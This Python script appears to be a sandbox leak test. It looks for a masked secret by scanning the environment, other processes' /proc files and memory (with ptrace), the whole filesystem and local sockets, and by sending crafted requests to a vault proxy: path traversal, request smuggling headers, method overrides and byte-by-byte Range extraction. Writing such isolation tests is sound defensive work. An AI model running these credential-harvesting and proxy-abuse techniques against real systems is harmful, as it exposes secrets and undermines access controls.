"""Tries to find a secret that the sandbox only has a placeholder for.

What it looks for is given masked, so that its own command line is no place
where it is found. It prints a line for each place where it was, and READY when
it has tried everything; then it waits for the end of its input.
"""
import base64, ctypes, json, os, re, socket, sys, urllib.parse

want = bytes(b ^ 0x5A for b in bytes.fromhex(sys.argv[1]))
address, token = os.environ["VAULT_URL"], os.environ["VAULT_TOKEN"].encode()
me = str(os.getpid())
tried = found = 0


def forms(data):
    """Every reading of what was got that a thief would think of."""
    yield data
    yield urllib.parse.unquote_to_bytes(data)
    yield data.replace(b"\0", b"")
    yield re.sub(rb"[\s\"',]+", b"", data)
    for word in re.findall(rb"[A-Za-z0-9+/_-]{16,}", data):
        for cut in range(4):
            try:
                yield base64.b64decode(word[cut:] + b"===", altchars=b"-_" if b"-" in word or b"_" in word else None)
            except ValueError:
                pass
        try:
            yield bytes.fromhex(word.decode())
        except ValueError:
            pass


def look(where, data):
    global tried, found
    tried += 1
    for got in forms(data):
        if want in got or want[::-1] in got or want[4:-4] in got:
            found += 1
            print("FOUND", where, flush=True)
            return


def read(path, most=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(most)
    except (OSError, ValueError):
        return b""


def processes():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "status", "maps", "stack", "auxv", "syscall", "mountinfo"):
            look(f"/proc/{pid}/{name}", read(f"/proc/{pid}/{name}"))
        for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
            try:
                look(f"/proc/{pid}/fd/{fd}", os.readlink(f"/proc/{pid}/fd/{fd}").encode())
            except OSError:
                pass
        if pid != me:
            memory(pid)


def memory(pid):
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as f:
            for line in read(f"/proc/{pid}/maps").decode().splitlines():
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                if "rw" in line and high - low < 64 << 20:
                    f.seek(low)
                    look(f"the memory of {pid}", f.read(high - low))
    except (OSError, ValueError, OverflowError):
        pass
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(16, int(pid), 0, 0)  # PTRACE_ATTACH
    libc.ptrace(17, int(pid), 0, 0)


def files():
    skip = {"/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/opt", "/nix"}
    for top, folders, names in os.walk("/"):
        folders[:] = [d for d in folders if os.path.join(top, d) not in skip]
        for name in names:
            path = os.path.join(top, name)
            try:
                if os.stat(path).st_size < 1 << 20 and os.path.isfile(path):
                    look(path, read(path))
            except OSError:
                pass
    for name in os.listdir("/proc/sys/kernel"):
        look(name, read("/proc/sys/kernel/" + name, 4096))


def say(raw, port=None, where=""):
    at = urllib.parse.urlsplit(address)
    got = b""
    try:
        with socket.create_connection((at.hostname, port or at.port), 10) as s:
            s.settimeout(10)
            s.sendall(raw)
            s.shutdown(socket.SHUT_WR)
            while len(got) < 1 << 20:
                piece = s.recv(65536)
                if not piece:
                    break
                got += piece
    except OSError:
        pass
    look(where or raw[:100], got)
    return got


def listeners():
    """What listens in this network: is any of it ours to talk to?"""
    ports = set()
    for name in ("tcp", "tcp6"):
        for line in read(f"/proc/net/{name}").decode().splitlines()[1:]:
            f = line.split()
            if f[3] == "0A":
                ports.add(int(f[1].split(":")[1], 16))
    look("/proc/net/unix", read("/proc/net/unix"))
    for line in read("/proc/net/unix").decode().splitlines()[1:]:
        path = line.split()[-1]
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(1)
                try:
                    s.connect("\0" + path[1:] if path.startswith("@") else path)
                    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    look(path, s.recv(65536))
                except OSError:
                    pass
    for port in ports:
        for raw in (b"GET / HTTP/1.0\r\n\r\n", b"\5\1\0", b"GET /debug/pprof/heap?debug=1 HTTP/1.0\r\n\r\n", b"GET /debug/vars HTTP/1.0\r\n\r\n"):
            say(raw, port, f"port {port}: {raw!r}")
    return ports


def requests():
    mount = urllib.parse.urlsplit(address).path.encode()
    base = mount.rsplit(b"/", 2)[0]
    host = b"Host: localhost\r\nConnection: close\r\n"
    bearer = b"Authorization: Bearer " + token + b"\r\n"
    basic = b"Authorization: Basic " + base64.b64encode(b"u:" + token) + b"\r\n"
    for path in (b"/", b"/routes", base, base + b"/", base + b"/secret/", mount[:-1], mount + b"/../..", b"//" + mount, b"*", b"/%00", b"/" + b"x" * 70000):
        say(b"GET " + path + b" HTTP/1.1\r\n" + host + b"\r\n")
        say(b"OPTIONS " + path + b" HTTP/1.1\r\n" + host + b"\r\n")
    for auth in (bearer, basic, b"Authorization: Basic " + base64.b64encode(token + b":x") + b"\r\n"):
        for method in (b"GET", b"HEAD", b"TRACE", b"TRACK", b"DEBUG", b"PROPFIND", b"OPTIONS"):
            say(method + b" " + mount + b"/echo HTTP/1.1\r\n" + host + auth + b"\r\n")
        for path in (b"/away", b"/here", b"/echo?x=" + token, b"/pieces", b"/ranges", b"/nothing"):
            for version in (b"1.1", b"1.0"):
                say(b"GET " + mount + path + b" HTTP/" + version + b"\r\n" + host + auth + b"\r\n")
        for more in (b"Accept-Encoding: gzip\r\n", b"Accept-Encoding: br;q=1, identity;q=0\r\n", b"Expect: 100-continue\r\n", b"TE: trailers\r\n",
                     b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n", b"Upgrade: websocket\r\nConnection: Upgrade\r\n",
                     b"Connection: authorization\r\n", b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", b"Forwarded: for=x\r\nX-Forwarded-Host: localhost\r\n",
                     b"Host: elsewhere.test\r\n", b"Proxy-Authorization: Basic eA==\r\n", b"X-Http-Method-Override: TRACE\r\n", b"Max-Forwards: 0\r\n"):
            say(b"GET " + mount + b"/echo HTTP/1.1\r\n" + host + auth + more + b"\r\n")
        # The answer in pieces, a byte each.
        pieces = b""
        for i in range(60):
            got = say(b"GET " + mount + b"/ranges HTTP/1.1\r\n" + host + auth + b"Range: bytes=%d-%d\r\n\r\n" % (i, i))
            pieces += got.partition(b"\r\n\r\n")[2][:1]
        look("ranges of a byte", pieces)
    # To other places, with the placeholder where it could be changed.
    for target in (b"http://elsewhere.test/", b"https://elsewhere.test/", b"http://localhost" + mount + b"/echo"):
        say(b"GET " + target + b" HTTP/1.1\r\nHost: elsewhere.test\r\n" + bearer + b"\r\n")
    vault = sys.argv[2].encode()
    say(b"CONNECT " + vault + b" HTTP/1.1\r\nHost: " + vault + b"\r\n" + bearer + b"\r\n")
    say(b"POST " + mount + b"/echo HTTP/1.1\r\n" + host + bearer + b"Content-Length: %d\r\n\r\n" % len(token) + token)
    for name in (b"api_key", b"x_api_key", b"authorization_"):
        say(b"GET " + mount + b"/echo HTTP/1.1\r\n" + host + name + b": " + token + b"\r\n\r\n")


look("the environment", json.dumps(dict(os.environ)).encode())
ports = listeners()
requests()
processes()
files()
print("TRIED", tried, "FOUND", found, "PORTS", len(ports), flush=True)
print("READY", flush=True)
sys.stdin.read()
